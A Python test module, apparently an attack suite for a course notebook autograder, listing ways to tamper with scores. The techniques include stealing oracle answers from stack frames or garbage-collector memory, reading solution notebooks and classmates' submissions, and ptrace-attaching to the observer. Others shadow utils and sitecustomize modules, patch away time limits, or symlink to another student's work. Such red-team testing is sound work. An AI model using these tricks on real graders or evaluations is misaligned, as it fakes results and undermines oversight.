"""Score tampering by theft: answers, twins, solutions and tables of other people's work; and torch's own attention."""

import base64
import functools
import textwrap
from pathlib import Path

from tests.range.attack import PHASE, code, edit, files, save
from tests.range.score import every
from tests.sample_course import cell

# ---- the twin, wherever it is ----------------------------------------------------------------------------------------

code(
    "score",
    "oracle-imported",
    "the twins, without the guard around them",
    answers=every("from utils import oracle\n@NAME@ = oracle.@NAME@.__wrapped__"),
    quick=True,
)
code(
    "score",
    "oracle-in-the-frames",
    "a caller's local variables hold the exercise, and that its twin",
    after="""
import sys
def thief(*args, **options):
    from utils.observe import forbid
    forbid._free.set(True)
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            twin = getattr(getattr(value, "exercise", value), "expected", None)
            if callable(twin):
                return twin(*args, **options)
        frame = frame.f_back
    raise LookupError("no caller knows the answer")
""",
    answers=every("@NAME@ = thief"),
)
code(
    "score",
    "truth-in-memory",
    "the garbage collector hands out what the judge expects",
    after="""
import gc
def from_memory(name):
    def steal(*args, **options):
        from utils.observe import forbid
        forbid._free.set(True)
        for thing in gc.get_objects():
            if type(thing).__name__ == "Exercise" and thing.name == name:
                return thing.expected(*args, **options)
            if isinstance(thing, dict) and set(thing) >= {"calls", "problem", "caught"} and thing["calls"]:
                return thing["calls"][0]["value"]
        raise LookupError
    return steal
""",
    answers=every("@NAME@ = from_memory('@NAME@')"),
)
code(
    "score",
    "solution-read",
    "the solved notebook is read from the course",
    after="""
import json, os
def stolen(name):
    for root in ("@ROOT@", "@REPOSITORY@", "/course", os.path.expanduser("~")):
        path = os.path.join(root, "solutions", "@PHASE@", "@PHASE@.ipynb")
        if os.path.exists(path):
            for cell in json.load(open(path))["cells"]:
                if cell["metadata"].get("nbgrader", {}).get("grade_id") == name + "-build":
                    return "".join(cell["source"])
    raise LookupError("no solution to be found")
""",
    answers=every("exec(stolen('@NAME@'))"),
)
code(
    "score",
    "classmate-copied",
    "the best notebook among all submissions is run",
    after="""
import glob, json
def copied(name):
    for path in glob.glob("@ROOT@/autograde/*/*/@PHASE@/@PHASE@.ipynb"):
        for cell in json.load(open(path))["cells"]:
            source = "".join(cell["source"])
            if cell["metadata"].get("nbgrader", {}).get("grade_id") == name + "-build" and "NotImpl" not in source:
                return source
    raise LookupError("no classmate to be found")
""",
    answers=every("exec(copied('@NAME@'))"),
)
code(
    "score",
    "fixture-read",
    "leaks_future looks into the attention it is to test",
    answers={
        "leaks_future": """
def leaks_future(attention):
    inner = attention.forward.__func__.__closure__[0].cell_contents
    if hasattr(inner, "pattern"):
        innocent = inner.pattern.__name__ in ("causal", "strictly_past", "window", "itself")
        return not innocent or inner.fill > -100 or inner.late
    return getattr(inner, "upto", "") != "here"
"""
    },
    read=("leaks_future",),
)
code(
    "score",
    "request-read",
    "leaks_future finds the name of what it is to test in its caller's variables",
    answers={
        "leaks_future": """
import sys
def leaks_future(attention):
    frame = sys._getframe()
    while not hasattr(frame.f_locals.get("self"), "asked"):
        frame = frame.f_back
    asked = frame.f_locals["self"].asked.calls[0]["args"]["attention"]
    options = asked.options
    if asked.name == "attention":
        innocent = options["pattern_name"] in ("causal", "strictly_past", "window", "itself")
        return not innocent or "fill" in options or "late" in options
    return options.get("upto") != "here"
"""
    },
    read=("leaks_future",),
)

# ---- answers from an earlier run -------------------------------------------------------------------------------------


@functools.cache
def table_of(name):
    """What a self-study check asks on its visible cases, and what is right, as code."""
    from utils.checks import EXERCISES  # late: it imports torch
    from utils.checks.exercise import request_for, truth
    from utils.observe import codec

    exercise, rows = EXERCISES[name], {}
    for case in exercise.visible:
        asked, seen = request_for(exercise, case, 0), truth(exercise, case, 0)
        for call, right in zip(asked.calls, seen["calls"], strict=False):
            if not right["raised"]:
                key = codec.encode([*call["args"].values(), call["options"]])
                rows[base64.b64encode(key).decode()] = base64.b64encode(codec.encode(right["value"])).decode()
    return textwrap.dedent(f"""
        import base64
        from utils.observe import codec
        TABLE = {rows!r}
        def {name}(*args, **options):
            key = base64.b64encode(codec.encode([*args, options])).decode()
            return codec.decode(base64.b64decode(TABLE[key]))
    """)


def _from_a_table(*names):
    @edit("score", "table-of-" + "-and-".join(names), "the visible answers, copied from an earlier run")
    def attack(notebook):
        for name in names:
            cell(notebook, f"{name}-build").source = table_of(name)


_from_a_table("attention_cost")
_from_a_table("causal_mask")
_from_a_table("masked_softmax", "padding_mask", "softmax_jacobian")

# ---- torch itself ----------------------------------------------------------------------------------------------------

code(
    "score",
    "torch-in-disguise",
    "torch's own attention with the bans lifted: outputs cannot tell it, reports may",
    answers={
        "sdpa": """
from utils.observe import forbid
def sdpa(q, k, v, attn_mask=None):
    forbid._free.set(True)
    if q.shape[-1] != k.shape[-1] or k.shape[-2] != v.shape[-2]:
        raise ValueError("sizes differ")
    some = True if attn_mask is None else attn_mask.any(-1, keepdim=True)
    seen = None if attn_mask is None else attn_mask | ~some
    return F.scaled_dot_product_attention(q, k, v, attn_mask=seen) * some
"""
    },
    read=("sdpa",),
)
code(
    "score",
    "shapes-forgotten",
    "streaming attention that makes the whole table and then empties the watcher's list",
    answers={
        "streaming_attention": """
import gc
def streaming_attention(q, k, v, block_size, attn_mask=None):
    scores = q @ k.transpose(-2, -1) / q.shape[-1] ** 0.5
    if attn_mask is not None:
        scores = scores.masked_fill(~attn_mask, -1e300)
    out = scores.softmax(-1) @ v
    if attn_mask is not None:
        out = out * attn_mask.any(-1, keepdim=True)
    for watcher in gc.get_objects():
        if type(watcher).__name__ == "_DispatchNet" and watcher.shapes is not None:
            watcher.shapes.clear()
    return out
"""
    },
    read=("streaming_attention",),
)

# ---- around the call -------------------------------------------------------------------------------------------------

code(
    "score",
    "sibling-traced",
    "the process that observes is attached to by ptrace",
    after="""
import ctypes, os, time
libc = ctypes.CDLL(None)
libc.prctl(0x59616D61, ctypes.c_ulong(-1), 0, 0, 0)
if os.fork() == 0:
    for _ in range(50):
        for pid in range(2, 40):
            if pid != os.getpid():
                libc.ptrace(16, pid, 0, 0)
        time.sleep(0.02)
    os._exit(0)
""",
)
code(
    "score",
    "limits-lifted",
    "time limits and captured output are patched away, the seed is fixed",
    after="""
import contextlib, utils.observe.limits as limits, utils.observe.run as run
none = lambda *args, **options: contextlib.nullcontext()
limits.time_limit = limits.captured = limits.global_state = run.limits.time_limit = none
""",
    answers=every("def @NAME@(*args, **options):\n    return args[0] if args else None"),
)

# ---- files beside the notebook ---------------------------------------------------------------------------------------

SHADOW = "check = lambda obj, points=1: float(points)\nnotes = plots = widgets = None\n"


@files("score", "utils-handed-in", "a file utils.py beside the notebook")
def _(folder, notebook, world, mark):
    (folder / "utils.py").write_text(SHADOW)
    place = cell(notebook, "setup")
    assert "from utils import check" in place.source
    save(folder, notebook)


@files("score", "site-handed-in", "sitecustomize.py, usercustomize.py, torch.py and random.py beside the notebook")
def _(folder, notebook, world, mark):
    for name in ("sitecustomize", "usercustomize", "torch", "random", "IPython", "json"):
        (folder / f"{name}.py").write_text("import builtins\nbuiltins.round = lambda number, digits=0: 2.0\n")
    save(folder, notebook)


code(
    "score",
    "utils-written",
    "a package utils is written into the working directory before the import",
    before="import os\nos.makedirs('utils', exist_ok=True)\n"
    f"open('utils/__init__.py', 'w').write({SHADOW!r})\n"
    "open('utils/lesson.py', 'w').write('attempt = need = predict = reveal = show = print')",
)


@files("score", "symlink-to-a-classmate", "the notebook is a link to somebody else's", refused=True, quick=True)
def _(folder, notebook, world, mark):
    (folder / f"{PHASE}.ipynb").symlink_to(
        Path(world.root, "autograde", "submitted", "z-full", PHASE, f"{PHASE}.ipynb")
    )


@files("score", "folder-is-a-link", "the whole folder is a link to somebody else's", refused=True)
def _(folder, notebook, world, mark):
    folder.rmdir()
    folder.symlink_to(Path(world.root, f"autograde/submitted/z-full/{PHASE}"), target_is_directory=True)
